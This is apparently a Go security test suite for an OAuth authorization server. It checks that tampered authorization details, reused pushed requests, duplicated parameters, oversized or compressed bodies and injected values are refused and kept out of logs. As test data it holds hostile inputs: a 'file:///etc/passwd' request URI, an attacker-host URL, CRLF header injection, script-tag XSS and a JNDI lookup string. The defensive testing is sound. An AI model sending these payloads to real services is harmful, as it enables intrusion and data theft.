package api

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"yizheng.internal/api/oauth"
)

// badDetails are authorization details that must be refused, before anybody
// logs in for them (RFC 9396 section 5).
func badDetails(aliceLicense string) map[string]string {
	of := func(members string) string {
		return `[{"type":"license","service_item":"` + sampleItem + `","case":"1"` + members + `}]`
	}
	asked := func(members string) string {
		return of(`,"licenses":[{"material":"operator-certificate","type_code":"` + sampleType + `"` + members + `}]`)
	}
	many := strings.TrimSuffix(strings.Repeat(`{"material":"operator-certificate","type_code":"`+sampleType+`"},`, 1000), ",")
	fields := strings.TrimSuffix(strings.Repeat(`"fields/category",`, 1000), ",")
	return map[string]string{
		"another person's license by id":   asked(`,"license":"` + aliceLicense + `"`),
		"another person's license by name": of(`,"holder":"` + sampleName + `"`),
		"another person by code":           of(`,"subject":"` + sampleCitizen + `"`),
		"an identifier":                    asked(`,"identifier":"1.2.156"`),
		"an unknown type of detail":        `[{"type":"payment","amount":"1"}]`,
		"a type left out":                  `[{"service_item":"` + sampleItem + `","case":"1"}]`,
		"an unknown type of license":       strings.Replace(asked(""), sampleType, "11100000000013338W999", 1),
		"a type that isn't one":            strings.Replace(asked(""), sampleType, "../../x", 1),
		"an unknown material":              strings.Replace(asked(""), "operator-certificate", "passport", 1),
		"a field outside the item":         asked(`,"fields":["photo"]`),
		"a field outside, among others":    asked(`,"fields":["category","identifier"]`),
		"all fields":                       asked(`,"fields":["*"]`),
		"an item that isn't registered":    detailsOf(otherItem),
		"an item that isn't there":         detailsOf("NO-SUCH-ITEM"),
		"a thousand licenses":              of(`,"licenses":[` + many + `]`),
		"a thousand fields":                asked(`,"fields":[` + fields + `]`),
		"a thousand details":               "[" + strings.TrimSuffix(strings.Repeat(strings.Trim(detailsOf(sampleItem), "[]")+",", 1000), ",") + "]",
		"two details":                      "[" + strings.Trim(detailsOf(sampleItem), "[]") + "," + strings.Trim(detailsOf(sampleItem), "[]") + "]",
		"control characters":               `[{"type":"license","service_item":"` + sampleItem + `","case":"a\u0000\u001b[31m\nb"}]`,
		"a text direction":                 `[{"type":"license","service_item":"` + sampleItem + `","case":"\u202eevil"}]`,
		"a case of 64 KiB":                 `[{"type":"license","service_item":"` + sampleItem + `","case":"` + strings.Repeat("a", 60<<10) + `"}]`,
		"no array":                         strings.Trim(detailsOf(sampleItem), "[]"),
		"an empty array":                   `[]`,
		"a string":                         `"license"`,
		"null":                             `null`,
		"null in it":                       `[null]`,
		"no JSON":                          `[{`,
		"JSON with more behind it":         detailsOf(sampleItem) + detailsOf(sampleItem),
		"a member twice":                   of(`,"case":"2"`),
		"nested deep":                      strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000),
		"nested deep in it":                of(`,"x":` + strings.Repeat(`{"a":`, 5000) + "1" + strings.Repeat("}", 5000)),
		"a number for a text":              `[{"type":"license","service_item":1,"case":"1"}]`,
		"no UTF-8":                         `[{"type":"license","service_item":"` + sampleItem + "\",\"case\":\"\xff\xfe\"}]",
		"half a surrogate":                 `[{"type":"license","service_item":"` + sampleItem + `","case":"\ud800"}]`,
	}
}

func TestAttackAuthorizationDetails(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	for name, d := range badDetails(s.alicesLicense) {
		a := s.clinic.licensed("authorization_details", d).push(t)
		if a.StatusCode == http.StatusRequestEntityTooLarge && len(url.QueryEscape(d)) > 60<<10 {
			continue
		}
		if want := a.member("error"); a.StatusCode != http.StatusBadRequest || want != "invalid_authorization_details" && want != "invalid_request" {
			t.Errorf("%s: %d %.300s", name, a.StatusCode, a.body)
		}
		for _, echo := range []string{"evil", "payment", "passport", "photo", sampleName, sampleCitizen, s.alicesLicense} {
			if strings.Contains(a.body, echo) {
				t.Errorf("%s: the answer repeats what came: %s", name, a.body)
			}
		}
		checkNoStore(t, a)
	}
	// A client that isn't registered for licenses asks for none, and nobody asks
	// for them past PAR with a public client or without PKCE: registration refuses that.
	plain := s.relyingParty(t, s.owner(t, strangerUSCC), "http://127.0.0.1:9104/callback", withoutItems)
	plain.licensed().push(t).oauthError(t, http.StatusBadRequest, "invalid_authorization_details")
	s.clinic.licensed().push(t).want(t, http.StatusCreated, "")
	// In the browser's hands they are refused: whoever sits there could change them.
	direct := s.clinic.licensed()
	if q := direct.answered(t, s.browser(t).Get(s.url+pathAuthorize+"?"+direct.params.Encode())); q.Get("error") == "" {
		t.Errorf("details that weren't pushed: %v", q)
	}
	if log := s.log.String(); strings.Contains(log, "evil") || strings.Contains(log, sampleName) || strings.Contains(log, sampleCitizen) {
		t.Error("the log repeats what came")
	}
}

// A pushed request is good once, for the client that pushed it, and can't be
// changed on its way through the browser (RFC 9126 section 7).
func TestAttackPushedRequest(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	f := s.clinic.licensed()
	uri := f.push(t).want(t, http.StatusCreated, "").member("request_uri")
	twin := s.relyingParty(t, s.owner(t, strangerUSCC), clinicURI, nil) // which has the same redirect URI
	open := func(q url.Values) (status int, to *url.URL) {
		p := s.browser(t).Get(s.url + pathAuthorize + "?" + q.Encode())
		return p.Status, p.To
	}
	for name, q := range map[string]url.Values{
		"by another client": {"client_id": {s.garage.id}, "request_uri": {uri}},
		"by a twin":         {"client_id": {twin.id}, "request_uri": {uri}},
		"by nobody":         {"request_uri": {uri}},
		"of another issuer": {"client_id": {s.clinic.id}, "request_uri": {"https://evil.example/request"}},
		"of this machine":   {"client_id": {s.clinic.id}, "request_uri": {"file:///etc/passwd"}},
		"guessed":           {"client_id": {s.clinic.id}, "request_uri": {uri[:len(uri)-6] + "AAAAAA"}},
	} {
		if status, to := open(q); status < 400 && (to == nil || to.Query().Get("error") == "") || to != nil && to.Host == "evil.example" {
			t.Errorf("%s: %d to %v", name, status, to)
		}
	}
	// Parameters beside it count for nothing.
	b := s.browser(t)
	q := url.Values{"client_id": {s.clinic.id}, "request_uri": {uri}, "redirect_uri": {"https://evil.example/"}, "scope": {"openid phone"}, "state": {"evil"}}
	p := b.Get(s.url + pathAuthorize + "?" + q.Encode())
	if p.To == nil && p.Status < 400 {
		f.code(t, agreeToAll(p.LogIn(s.alice)).Send())
	} else if p.To != nil && p.To.Host == "evil.example" {
		t.Fatalf("sent to %s", p.To)
	}
	if status, to := open(url.Values{"client_id": {s.clinic.id}, "request_uri": {uri}}); status < 400 && (to == nil || to.Query().Get("error") == "") {
		t.Errorf("used again: %d to %v", status, to)
	}
}

// Any parameter that is there twice is refused, at every endpoint (RFC 6749
// sections 3.1 and 3.2): two readers might take different ones.
func TestAttackParameterTwice(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	f := s.clinic.request()
	for name := range f.params {
		for _, second := range []string{f.params.Get(name), "other"} {
			q := f.params.Encode() + "&" + url.Values{name: {second}}.Encode()
			p := s.browser(t).Get(s.url + pathAuthorize + "?" + q)
			if p.Status < 400 && (p.To == nil || p.To.Query().Get("error") != "invalid_request") {
				t.Errorf("authorize, %s: %d to %v", name, p.Status, p.To)
			}
			if name == "redirect_uri" && p.To != nil || p.Has("username") {
				t.Errorf("authorize, %s: went on to %v", name, p.To)
			}
			s.twice(t, pathPAR, f.params, name, second)
		}
	}
	k := s.clinic.request("scope", "openid offline_access", "prompt", "consent").loggedIn(t, s.browser(t), s.alice)
	for path, form := range map[string]url.Values{
		pathToken:      {"grant_type": {"refresh_token"}, "refresh_token": {k.RefreshToken}, "scope": {"openid"}},
		pathIntrospect: {"token": {k.AccessToken}, "token_type_hint": {"access_token"}},
		pathRevoke:     {"token": {k.RefreshToken}, "token_type_hint": {"refresh_token"}},
	} {
		for name := range form {
			s.twice(t, path, form, name, form.Get(name))
			s.twice(t, path, form, name, "other")
		}
	}
	if !s.clinic.active(t, k.RefreshToken) {
		t.Error("a refused request did its work")
	}
	q := url.Values{"id_token_hint": {k.IDToken}, "post_logout_redirect_uri": {clinicURI + "/bye", "https://evil.example/"}}
	if p := s.browser(t).Get(s.url + pathEndSession + "?" + q.Encode()); p.To != nil || !strings.Contains(p.Body, "a parameter is there twice") {
		t.Errorf("end_session: %d to %v", p.Status, p.To)
	}
	r := s.request(t, "POST", pathUserInfo, url.Values{"access_token": {k.AccessToken, k.AccessToken}}.Encode())
	r.Header.Set("Content-Type", oauth.FormMedia)
	if a := s.do(t, r); a.StatusCode != http.StatusBadRequest && a.StatusCode != http.StatusUnauthorized {
		t.Errorf("userinfo: %d %s", a.StatusCode, a.body)
	}
	r = s.request(t, "POST", pathUserInfo, url.Values{"access_token": {k.AccessToken}}.Encode())
	r.Header.Set("Content-Type", oauth.FormMedia)
	r.Header.Set("Authorization", "Bearer "+k.AccessToken)
	if a := s.do(t, r); a.StatusCode != http.StatusBadRequest && a.StatusCode != http.StatusUnauthorized {
		t.Errorf("userinfo, in header and body: %d %s", a.StatusCode, a.body)
	}
}

func (s *stage) twice(t *testing.T, path string, form url.Values, name, second string) {
	t.Helper()
	r := s.request(t, "POST", path, form.Encode()+"&"+url.Values{name: {second}}.Encode())
	r.Header.Set("Content-Type", oauth.FormMedia)
	r.SetBasicAuth(s.clinic.id, s.clinic.secret)
	if a := s.do(t, r); a.StatusCode != http.StatusBadRequest || a.member("error") != "invalid_request" {
		t.Errorf("%s, %s: %d %s", path, name, a.StatusCode, a.body)
	}
}

// Bodies of any size, shape and coding are refused before they are read whole,
// and nothing is unpacked.
func TestAttackOversized(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	_, _ = z.Write(bytes.Repeat([]byte("a"), 10<<20))
	_ = z.Close()
	deep := strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000)
	token := s.clinic.request().loggedIn(t, s.browser(t), s.alice).AccessToken
	for _, path := range []string{pathToken, pathPAR, pathIntrospect, pathRevoke, pathUserInfo, pathAuthorize, pathEndSession, "/login", "/consent", "/v1/use-codes/redeem"} {
		for name, body := range map[string]struct {
			media, coding, text string
		}{
			"10 MiB":           {oauth.FormMedia, "", "a=" + strings.Repeat("a", 10<<20)},
			"100,000 fields":   {oauth.FormMedia, "", strings.Repeat("a&", 100_000)},
			"packed":           {oauth.FormMedia, "gzip", packed.String()},
			"nested JSON":      {"application/json", "", deep},
			"JSON for a form":  {"application/json", "", `{"grant_type":"authorization_code"}`},
			"a form with JSON": {oauth.FormMedia, "", url.Values{"authorization_details": {deep}}.Encode()},
			"multipart":        {"multipart/form-data; boundary=x", "", "--x\r\n\r\n--x--"},
			"percent signs":    {oauth.FormMedia, "", "a=%zz&%"},
			"no UTF-8":         {oauth.FormMedia, "", "token=%ff%fe&client_id=%c0%80"},
		} {
			r := s.request(t, "POST", path, body.text)
			r.Header.Set("Content-Type", body.media)
			if body.coding != "" {
				r.Header.Set("Content-Encoding", body.coding)
			}
			if strings.HasPrefix(path, "/v1/") {
				r.Header.Set("Authorization", "Bearer "+token)
			} else if strings.HasPrefix(path, "/oauth/") {
				r.SetBasicAuth(s.clinic.id, s.clinic.secret)
			}
			a, err := s.client.Do(r)
			if err != nil { // the connection was cut, so that the rest need not be read
				continue
			}
			text, _ := io.ReadAll(a.Body)
			a.Body.Close()
			if a.StatusCode < 400 || a.StatusCode >= 500 {
				t.Errorf("%s at %s: %d %.200s", name, path, a.StatusCode, text)
			}
		}
	}
	long := strings.Repeat("a", 100<<10)
	for _, name := range []string{"state", "nonce", "scope", "login_hint", "ui_locales", "acr_values", "prompt", "id_token_hint", "code_challenge", "claims"} {
		p := s.browser(t).Get(s.url + pathAuthorize + "?" + s.clinic.request(name, long).params.Encode())
		if p.Status < 400 || p.To != nil {
			t.Errorf("%s of 100 KiB: %d", name, p.Status)
		}
		if a := s.clinic.request(name, long[:30<<10]).push(t); a.StatusCode != http.StatusBadRequest && name != "claims" {
			t.Errorf("%s of 30 KiB, pushed: %d %.200s", name, a.StatusCode, a.body)
		}
	}
}

// Secrets in a query are refused, and so are other methods (RFC 6749 sections
// 2.3.1 and 3.2): what stands in a URL stands in logs.
func TestAttackSecretsInQueries(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	f := s.clinic.request()
	code := f.through(t, s.browser(t), s.alice)
	credentials := url.Values{"client_id": {s.clinic.id}, "client_secret": {s.clinic.secret}}
	form := f.redemption(code)
	maps.Copy(form, credentials)
	for _, path := range []string{pathToken, pathPAR, pathIntrospect, pathRevoke} {
		for _, method := range []string{"GET", "HEAD", "PUT"} {
			if a := s.do(t, s.request(t, method, path+"?"+form.Encode(), "")); a.StatusCode != http.StatusMethodNotAllowed {
				t.Errorf("%s %s: %d %s", method, path, a.StatusCode, a.body)
			}
		}
		r := s.request(t, "POST", path+"?"+credentials.Encode(), f.redemption(code).Encode())
		r.Header.Set("Content-Type", oauth.FormMedia)
		s.do(t, r).oauthError(t, http.StatusBadRequest, "invalid_request")
		r = s.request(t, "POST", path+"?"+f.redemption(code).Encode(), f.redemption(code).Encode())
		r.Header.Set("Content-Type", oauth.FormMedia)
		r.SetBasicAuth(s.clinic.id, s.clinic.secret)
		s.do(t, r).oauthError(t, http.StatusBadRequest, "invalid_request")
	}
	f.redeem(t, code).tokens(t) // none of that spent the code
	if strings.Contains(s.log.String(), s.clinic.secret) {
		t.Error("the log holds the secret")
	}
}

// withBreaks are values that would break out of a header, a log's line, a page
// or an address, if they were put there as they are.
var withBreaks = []string{
	"a\r\nSet-Cookie: evil=1", "a\nevil: 1", "a\u2028evil", "a\x00evil", `"><script>alert("evil")</script>`, "' onfocus=alert(1) evil='",
	"${jndi:ldap://evil.example}", "%0d%0aevil: 1", "\x1b[2Jevil", `{"level":"ERROR","msg":"evil"}`, "]]><!--evil-->",
}

// What comes in with a request becomes no header, no markup and no line of the
// log.
func TestAttackInjection(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	for _, value := range withBreaks {
		for _, name := range []string{"state", "nonce", "login_hint", "ui_locales", "client_id", "redirect_uri", "scope", "prompt", "acr_values", "id_token_hint", "display", "evil"} {
			p := s.browser(t).Get(s.url + pathAuthorize + "?" + s.clinic.request(name, value).params.Encode())
			for header, values := range p.Header {
				text := header + ": " + strings.Join(values, ",")
				if strings.ContainsAny(text, "\r\n") || strings.Contains(strings.ToLower(header), "evil") || strings.Contains(text, "evil=1") && !strings.Contains(text, url.QueryEscape("evil=1")) && header == "Set-Cookie" {
					t.Errorf("%s %q becomes %q", name, value, text)
				}
			}
			if strings.Contains(p.Body, "<script>alert") || strings.Contains(p.Body, `onfocus=alert`) && !strings.Contains(p.Body, "&#39; onfocus") || strings.Contains(p.Body, "<!--evil") {
				t.Errorf("%s %q becomes markup:\n%s", name, value, p.Body)
			}
			if p.To != nil && name == "state" && p.To.Query().Has("state") && p.To.Query().Get("state") != value {
				t.Errorf("the state %q comes back as %q", value, p.To.Query().Get("state"))
			}
		}
		b := s.browser(t)
		p := s.clinic.request().open(t, b).Press("submit", "username", value, "password", value)
		if strings.Contains(p.Body, "<script>alert") || p.To != nil {
			t.Errorf("the login %q becomes markup:\n%s", value, p.Body)
		}
		r := s.request(t, "GET", "/", "")
		r.Header.Set("User-Agent", strings.Map(printable, value))
		r.Header.Set("Accept-Language", strings.Map(printable, value))
		r.Header.Set("X-Request-Id", strings.Map(printable, value))
		r.Header.Set("Cookie", "yizheng-language="+strings.Map(printable, value))
		if a := s.do(t, r); strings.Contains(a.body, "<script>alert") || a.StatusCode != http.StatusOK {
			t.Errorf("headers %q: %d %s", value, a.StatusCode, a.body)
		}
	}
	for line := range strings.Lines(s.log.String()) {
		if !strings.HasPrefix(line, `{"time":`) || strings.Contains(line, "evil") {
			t.Errorf("a line of the log: %.300s", line)
		}
	}
}

// printable leaves out what no header can hold.
func printable(c rune) rune {
	if c < ' ' || c > '~' {
		return -1
	}
	return c
}

// The log of whole logins, right and wrong ones, holds no secret and nothing
// personal.
func TestAttackLogDisclosure(t *testing.T) {
	t.Parallel()
	s := newStage(t, stageConfig{})
	b := s.browser(t)
	f := s.clinic.licensed("scope", "openid profile phone identity offline_access", "prompt", "consent", "login_hint", "alice")
	uri := f.push(t).want(t, http.StatusCreated, "").member("request_uri")
	p := b.Get(s.url + pathAuthorize + "?" + url.Values{"client_id": {s.clinic.id}, "request_uri": {uri}}.Encode())
	p = p.Press("submit", "username", s.alice.Login, "password", "a wrong password")
	secrets := []string{uri, "a wrong password", p.Form("submit").Values.Get("token"), p.URL.Query().Get("request")}
	p = p.LogIn(s.alice)
	form := agreeToAll(p)
	secrets = append(secrets, form.Values.Get("form"), form.Values.Get("shown"))
	code := f.code(t, form.Send())
	k := f.redeem(t, code).tokens(t)
	next := s.clinic.send(t, pathToken, refreshForm(k.RefreshToken)).tokens(t)
	s.bearer(t, "GET", pathUserInfo, k.AccessToken, nil).want(t, http.StatusOK, "")
	s.read(t, k.AccessToken, k.useCode(t)).want(t, http.StatusOK, "")
	s.clinic.active(t, k.AccessToken)
	f.redeem(t, code)                                             // a replay
	s.garage.send(t, pathToken, f.redemption(code))               // a theft
	s.clinic.send(t, pathToken, refreshForm(k.RefreshToken[:20])) // nonsense
	b.Get(s.url + "/licenses?next=" + url.QueryEscape(bobName))   // personal data in a URL
	b.Get(s.url + pathEndSession + "?id_token_hint=" + k.IDToken).Press("submit")
	secrets = append(secrets, code, k.AccessToken, k.IDToken, k.RefreshToken, next.AccessToken, next.RefreshToken, k.useCode(t), f.state, f.nonce, f.verifier,
		f.params.Get("code_challenge"), s.clinic.secret, alicePassword, alicePhone, strings.TrimPrefix(alicePhone, "+86"), sampleName, sampleCitizen,
		sampleNumber, sampleField, sampleCase, bobName, url.QueryEscape(bobName))
	secrets = append(secrets, s.phones.codes()...)
	for _, c := range b.Set() {
		if len(c.Value) > 8 {
			secrets = append(secrets, c.Value)
		}
	}
	log := s.log.String()
	for _, secret := range secrets {
		if secret == "" {
			t.Error("a secret that was looked for is empty")
		} else if strings.Contains(log, secret) || strings.Contains(log, fmt.Sprintf("%q", secret)) {
			t.Errorf("the log holds %q", secret)
		}
	}
	if !strings.Contains(log, s.clinic.id) {
		t.Error("the log doesn't even hold the client: is this the log?")
	}
	// Signatures alone would do for whoever has the rest.
	for _, jwt := range []string{k.AccessToken, k.IDToken, next.AccessToken} {
		if strings.Contains(log, jwt[strings.LastIndexByte(jwt, '.')+1:]) {
			t.Error("the log holds a token's signature")
		}
	}
}
